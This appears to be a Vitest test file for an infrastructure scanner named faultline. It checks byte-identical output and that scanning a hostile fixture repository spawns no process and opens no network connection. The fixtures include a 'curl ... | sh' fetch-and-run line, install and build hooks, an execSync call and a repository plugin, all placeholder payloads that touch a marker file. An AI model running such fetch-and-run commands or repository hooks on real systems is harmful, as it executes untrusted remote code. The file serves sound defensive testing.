/**
 * Determinism and safety of a scan, observed from outside the process:
 * - with SOURCE_DATE_EPOCH, JSON and SARIF are byte-identical across repeated runs;
 * - a scan of a hostile repository starts no process, opens no socket and resolves no name
 *   (a preloaded trap records any attempt), and it runs inside a network namespace with no network.
 */
import { execFileSync, spawnSync } from 'node:child_process';
import { existsSync, mkdtempSync, mkdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';

const cli = path.resolve('dist/cli/main.js');
const tmp = mkdtempSync(path.join(os.tmpdir(), 'faultline-det-'));
afterAll(() => rmSync(tmp, { recursive: true, force: true }));

function scan(args: string[], env: NodeJS.ProcessEnv = {}, prefix: string[] = []) {
  const [cmd, ...rest] = prefix.length ? prefix : [process.execPath];
  return spawnSync(cmd, [...rest, ...(prefix.length ? [process.execPath] : []), ...args], {
    encoding: 'utf8',
    env: { PATH: process.env.PATH, ...env },
  });
}

describe('determinism', () => {
  it('byte-identical JSON and SARIF across runs of the example fleet', () => {
    const outs = [1, 2, 3].map((i) => {
      const j = path.join(tmp, `r${i}.json`);
      const s = path.join(tmp, `r${i}.sarif`);
      const r = scan([cli, 'scan', 'fixtures/example-fleet', '-q', '-f', 'json', '-o', j, '-f', 'sarif', '-o', s], { SOURCE_DATE_EPOCH: '1700000000' });
      expect(r.status, r.stderr).toBe(1);
      return [readFileSync(j, 'utf8'), readFileSync(s, 'utf8')];
    });
    expect(outs[1]).toEqual(outs[0]);
    expect(outs[2]).toEqual(outs[0]);
    expect(JSON.parse(outs[0][0]).findings.length).toBeGreaterThan(2);
  });
});

describe('a scan executes nothing and touches no network', () => {
  // A repository full of things a careless tool might run or fetch.
  const repo = path.join(tmp, 'hostile-repo');
  mkdirSync(path.join(repo, 'infra'), { recursive: true });
  writeFileSync(path.join(repo, 'infra', 'main.tf'), 'data "external" "x" {\n  program = ["sh", "-c", "touch /tmp/faultline-pwned"]\n}\nmodule "m" {\n  source = "git::https://example.com/m.git"\n}\nresource "aws_instance" "i" {\n  user_data = file("${path.module}/boot.sh")\n}\n');
  writeFileSync(path.join(repo, 'infra', 'boot.sh'), '#!/bin/sh\ncurl -fsSL https://example.com/x | sh\ntouch /tmp/faultline-pwned\n');
  writeFileSync(path.join(repo, 'package.json'), '{"scripts":{"postinstall":"touch /tmp/faultline-pwned"}}\n');
  writeFileSync(path.join(repo, 'Makefile'), 'all:\n\ttouch /tmp/faultline-pwned\n');
  writeFileSync(path.join(repo, 'user-data'), '#include\nhttps://example.com/user-data\n');
  writeFileSync(path.join(repo, 'plugin.yaml'), 'plugins: ["./evil.mjs"]\n');
  writeFileSync(path.join(repo, 'cdktf.json'), '{"app": "npx ts-node main.ts"}\n');
  writeFileSync(path.join(repo, 'main.ts'), 'import { App } from "cdktf";\nrequire("child_process").execSync("touch /tmp/faultline-pwned");\nnew App().synth();\n');

  // Preloaded into the scanning process: any attempt to spawn, connect or resolve is recorded.
  const trapLog = path.join(tmp, 'trap.log');
  const trap = path.join(tmp, 'trap.cjs');
  writeFileSync(
    trap,
    `const fs = require('fs'); const log = (w) => fs.appendFileSync(${JSON.stringify(trapLog)}, w + '\\n');
const cp = require('child_process');
for (const f of ['spawn','spawnSync','exec','execSync','execFile','execFileSync','fork']) { const o = cp[f]; cp[f] = function (...a) { log('child_process.' + f + ' ' + String(a[0])); return o.apply(this, a); }; }
const net = require('net'); for (const f of ['connect','createConnection']) { const o = net[f]; net[f] = function (...a) { log('net.' + f); return o.apply(this, a); }; }
const dns = require('dns'); for (const f of ['lookup','resolve']) { const o = dns[f]; dns[f] = function (...a) { log('dns.' + f + ' ' + String(a[0])); return o.apply(this, a); }; }
for (const m of ['http','https']) { const mod = require(m); for (const f of ['request','get']) { const o = mod[f]; mod[f] = function (...a) { log(m + '.' + f); return o.apply(this, a); }; } }
const of = globalThis.fetch; globalThis.fetch = function (...a) { log('fetch ' + String(a[0])); return of.apply(this, a); };`,
  );

  it('records no process, socket or DNS attempt, and nothing from the repository ran', () => {
    rmSync('/tmp/faultline-pwned', { force: true });
    const r = scan(['--require', trap, cli, 'scan', '.', '--root', repo, '-f', 'json', '-q'].map((a) => (a === '.' ? repo : a)));
    expect(r.status, r.stderr).not.toBe(2);
    expect(existsSync(trapLog) ? readFileSync(trapLog, 'utf8') : '').toBe('');
    expect(existsSync('/tmp/faultline-pwned')).toBe(false);
    const result = JSON.parse(r.stdout);
    expect(result.summary.files.scanned).toBeGreaterThan(2);
  });

  it('scans the same repository with the network cut (unshare -n)', () => {
    let canUnshare = true;
    try {
      execFileSync('unshare', ['-n', 'true']);
    } catch {
      canUnshare = false;
    }
    expect(canUnshare, 'unshare -n must work here (root, util-linux)').toBe(true);
    const r = scan([cli, 'scan', repo, '--root', repo, '-f', 'json', '-q'], {}, ['unshare', '-n']);
    expect(r.status, r.stderr).not.toBe(2);
    expect(JSON.parse(r.stdout).summary.files.scanned).toBeGreaterThan(2);
  });
});

describe('rule plugins from a scanned repository', () => {
  const repo = path.join(tmp, 'plugin-repo');
  const marker = path.join(tmp, 'plugin-ran');
  mkdirSync(repo, { recursive: true });
  writeFileSync(path.join(repo, 'faultline.yaml'), 'version: 1\nplugins: ["./evil.mjs"]\n');
  writeFileSync(
    path.join(repo, 'evil.mjs'),
    `import { writeFileSync } from 'node:fs';\nwriteFileSync(${JSON.stringify(marker)}, 'ran');\nexport const rules = [];\n`,
  );
  writeFileSync(path.join(repo, 'user-data'), '#cloud-config\npackage_upgrade: true\n');

  it('are not executed without --allow-plugins: the scan stops with a configuration error', () => {
    rmSync(marker, { force: true });
    const r = scan([cli, 'scan', repo, '--root', repo, '-q']);
    expect(r.status).toBe(2);
    expect(r.stderr).toMatch(/plugins are code from the repository and run only with --allow-plugins/);
    expect(existsSync(marker)).toBe(false);
  });

  it('run when the user allows them', () => {
    rmSync(marker, { force: true });
    const r = scan([cli, 'scan', repo, '--root', repo, '-q', '--allow-plugins']);
    expect(r.status, r.stderr).toBe(0);
    expect(existsSync(marker)).toBe(true);
    const e = scan([cli, 'scan', repo, '--root', repo, '-q'], { FAULTLINE_ALLOW_PLUGINS: '1' });
    expect(e.status, e.stderr).toBe(0);
  });
});
